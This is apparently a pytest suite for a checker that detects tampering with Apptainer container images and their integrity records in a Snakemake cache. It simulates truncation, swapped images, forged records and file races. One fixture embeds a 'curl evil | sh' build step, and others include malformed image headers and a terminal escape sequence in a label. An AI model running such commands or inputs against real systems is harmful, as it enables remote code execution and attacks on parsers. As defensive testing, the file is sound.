"""Attacks on an image and its record in Snakemake's folder, one test each.

Each starts from an image that we fetched, recorded and trust by its stat key. What an attacker did is never `verified`
and, but for the one word that says so little (`bound`), never runs.
"""

from __future__ import annotations

import itertools
import json
import os
import random
import subprocess
from dataclasses import replace

import pytest

from snakemake_apptainer_freshness.actions import check as module
from snakemake_apptainer_freshness.actions.check import check, check_one
from snakemake_apptainer_freshness.common import files
from snakemake_apptainer_freshness.common.files import StatKey
from snakemake_apptainer_freshness.freshness import DiskFact
from snakemake_apptainer_freshness.store import records
from tests.support import sifs
from tests.support.pins import OTHER, REPOSITORY, flip_seven_bytes, pin, put, record, settle


@pytest.fixture
def image(tmp_path):
    path = put(tmp_path / "images", pin())
    record(path, pin())
    settle(path)
    assert fact(path).state == "verified"
    return path


def fact(path) -> DiskFact:
    """What a normal run, and a job's own check, say of the image."""
    (by_check,) = check([pin()], path.parent).values()
    assert by_check.state == check_one(pin(), path).state
    return by_check


# --- The image ----------------------------------------------------------------------------------------------


def test_a_truncated_image(image):
    os.truncate(image, image.stat().st_size - 1)
    assert fact(image).state == "corrupt"


def test_an_emptied_image(image):
    os.truncate(image, 0)
    assert fact(image).state == "corrupt"


def test_a_random_image(image):
    image.write_bytes(random.Random(1).randbytes(image.stat().st_size))
    assert fact(image).state == "corrupt"


def test_seven_flipped_bytes(image):
    flip_seven_bytes(image)
    assert fact(image).state == "altered"


def test_another_valid_image_of_the_same_size_and_label_with_the_old_times(image):
    before = image.stat()
    other = image.with_name("other")
    other.write_bytes(sifs.pulled(f"{REPOSITORY}@{pin().digest}", image_id=b"another image..."))
    assert other.stat().st_size == before.st_size
    os.utime(other, ns=(before.st_atime_ns, before.st_mtime_ns))
    other.replace(image)
    assert fact(image).state == "altered"


def test_another_valid_image_of_another_digest(image):
    image.write_bytes(sifs.pulled(f"{REPOSITORY}@{OTHER}"))
    assert fact(image).state == "altered"
    records.path_of(image).unlink()
    assert fact(image).state == "stale"


def test_another_valid_image_pulled_by_a_tag(image):
    image.write_bytes(sifs.pulled(f"{REPOSITORY}:1.0"))
    records.path_of(image).unlink()
    assert fact(image).state == "unbound"


def test_an_image_built_on_top_of_the_pinned_one(image):
    definition = f"bootstrap: docker\nfrom: {REPOSITORY}@{pin().digest}\n%post\n curl evil | sh\n"
    image.write_bytes(sifs.pulled(f"{REPOSITORY}@{pin().digest}", definition=definition))
    records.path_of(image).unlink()
    assert fact(image).state == "unbound"


def test_a_folder_in_its_place(image):
    image.unlink()
    image.mkdir()
    assert fact(image).state == "corrupt"


def test_a_fifo_in_its_place(image):
    image.unlink()
    os.mkfifo(image)
    assert fact(image).state == "corrupt"


def test_a_symbolic_link_to_elsewhere_in_its_place(image):
    elsewhere = image.parent.parent / "elsewhere"
    image.rename(elsewhere)
    image.symlink_to(elsewhere)
    assert fact(image).state == "corrupt"
    assert fact(image).detail == "not a file but a symbolic link"


def test_a_fifo_swapped_in_while_it_is_looked_at(image, monkeypatch):
    real = os.lstat
    looks = itertools.count(1)

    def swap(path, **how):
        status = real(path, **how)
        if str(path) == str(image) and next(looks) == 2:  # the one right before it is opened
            image.unlink()
            os.mkfifo(image)
        return status

    monkeypatch.setattr(files.os, "lstat", swap)
    records.path_of(image).unlink()
    said = check_one(pin(), image)
    assert (said.state, said.detail) == ("corrupt", "not a file but a FIFO")


@pytest.mark.parametrize("mode", [0o777, 0o666, 0o757])
def test_a_world_writable_image(image, mode):
    image.chmod(mode)
    assert fact(image).state == "unbound"
    assert "anyone may write to it" in fact(image).detail


# --- The record ---------------------------------------------------------------------------------------------


def test_no_record(image):
    records.path_of(image).unlink()
    assert fact(image).state == "bound"


def test_a_damaged_record(image):
    records.path_of(image).write_bytes(records.path_of(image).read_bytes()[:-20])
    assert fact(image).state == "bound"
    assert "its record is not JSON" in fact(image).detail


def test_a_record_of_another_image(image):
    other = put(image.parent, pin(OTHER))
    record(other, pin(OTHER))
    settle(other)
    records.path_of(image).write_bytes(records.path_of(other).read_bytes())
    assert fact(image).state == "bound"
    assert "its record is of another image" in fact(image).detail


def test_a_record_renamed_to_hide_that_it_is_of_another_pin(image):
    other = replace(record(image, pin()), pinned=pin(OTHER).url, digest=OTHER, stat=StatKey.of(image.lstat()))
    records.store(image, other)
    assert fact(image).state == "bound"


def test_a_record_copied_from_elsewhere(image, tmp_path):
    """Another user's record of the same pin; his build has other bytes, as every build has."""
    his = put(tmp_path / "his", pin(), sifs.pulled(f"{REPOSITORY}@{pin().digest}", image_id=b"his own build..."))
    record(his, pin())
    settle(his)
    records.path_of(image).write_bytes(records.path_of(his).read_bytes())
    assert fact(image).state == "altered"


def test_a_record_of_a_newer_version(image):
    table = json.loads(records.path_of(image).read_bytes())
    records.path_of(image).write_text(json.dumps({**table, "version": 2}))
    assert fact(image).state == "bound"
    assert "version 2" in fact(image).detail


@pytest.mark.parametrize("mode", [0o666, 0o646])
def test_a_world_writable_record(image, mode):
    records.path_of(image).chmod(mode)
    assert fact(image).state == "bound"
    assert "anyone may write to its record" in fact(image).detail


def test_our_own_record_is_not_world_writable_whatever_the_umask(image):
    before = os.umask(0)
    try:
        records.store(image, record(image, pin()))
    finally:
        os.umask(before)
    assert records.path_of(image).stat().st_mode & 0o777 == 0o644


def test_a_record_that_is_a_symbolic_link(image, tmp_path):
    records.path_of(image).rename(tmp_path / "record")
    records.path_of(image).symlink_to(tmp_path / "record")
    assert fact(image).state == "bound"


# --- Time ---------------------------------------------------------------------------------------------------


def test_an_image_swapped_between_verification_and_the_start_of_a_job(image):
    (before,) = check([pin()], image.parent).values()
    assert before.state == "verified"
    evil = image.with_name("evil")
    evil.write_bytes(sifs.pulled(f"{REPOSITORY}@{pin().digest}", content=sifs.squashfs(filler=b"\x66")))
    subprocess.run(["touch", "-r", image, evil], check=True)
    evil.replace(image)
    assert check_one(pin(), image).state == "altered"


def test_a_change_within_one_tick_of_the_clock_after_hashing(tmp_path, monkeypatch):
    """A file system whose clock ticks every two seconds: the change leaves the stat key as it was."""
    image = put(tmp_path, pin())
    record(image, pin())
    frozen = StatKey.of(image.lstat())
    monkeypatch.setattr(StatKey, "of", classmethod(lambda _cls, _status: frozen))
    monkeypatch.setattr(records, "clock_of", lambda _folder: frozen.ctime_ns + 1_900_000_000)
    assert check_one(pin(), image).state == "verified"
    flip_seven_bytes(image)
    assert check_one(pin(), image).state == "altered"


@pytest.mark.parametrize("step", [-3600, 3600])
def test_our_clock_steps(image, monkeypatch, step):
    """The times of images and of their hashing come from one clock, the file system's; ours plays no part."""
    real = module.records.clock_of
    monkeypatch.setattr(files.time, "time", lambda: 1_000_000_000 + step)
    assert real(image.parent) > 1_500_000_000_000_000_000
    assert fact(image).state == "verified"
    flip_seven_bytes(image)
    assert fact(image).state == "altered"


def test_the_file_systems_clock_steps_back(image, monkeypatch):
    """What was written in a future that is over now is hashed at every check."""
    future = image.stat().st_mtime_ns + 3600 * 10**9
    os.utime(image, ns=(future, future))
    record(image, pin())
    assert fact(image).state == "verified"
    known = records.load(image)
    assert known is not None
    assert known.stat is None
    flip_seven_bytes(image)
    assert fact(image).state == "altered"


# --- Headers ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "hostile",
    [
        sifs.build([], sifs.Header(total=2**62)),
        sifs.build([], sifs.Header(offset=-1)),
        sifs.build([sifs.Object(type=sifs.DEFINITION, content=b"x", offset=2**62, size=2**62)]),
        sifs.build([sifs.Object(type=sifs.JSON, content=b"[" * 200_000, name="inspect-metadata.json"),
                    sifs.Object(type=sifs.PARTITION, content=sifs.squashfs(), extra=sifs.partition_extra())]),
        sifs.build([sifs.Object(type=sifs.PARTITION, content=sifs.squashfs(used=2**63), extra=sifs.partition_extra())]),
    ],
    ids=["count", "table", "object", "json", "squashfs"],
)  # fmt: skip
def test_hostile_headers(image, hostile):
    image.write_bytes(hostile)
    assert fact(image).state == "corrupt"


def test_control_characters_in_labels_do_not_reach_a_terminal(image):
    from snakemake_apptainer_freshness.errors import redact

    image.write_bytes(sifs.pulled("quay.io/x:\x1b]0;owned\x07"))
    records.path_of(image).unlink()
    assert fact(image).state == "unbound"
    assert "\x1b" not in fact(image).detail
    assert redact(fact(image).detail) == fact(image).detail
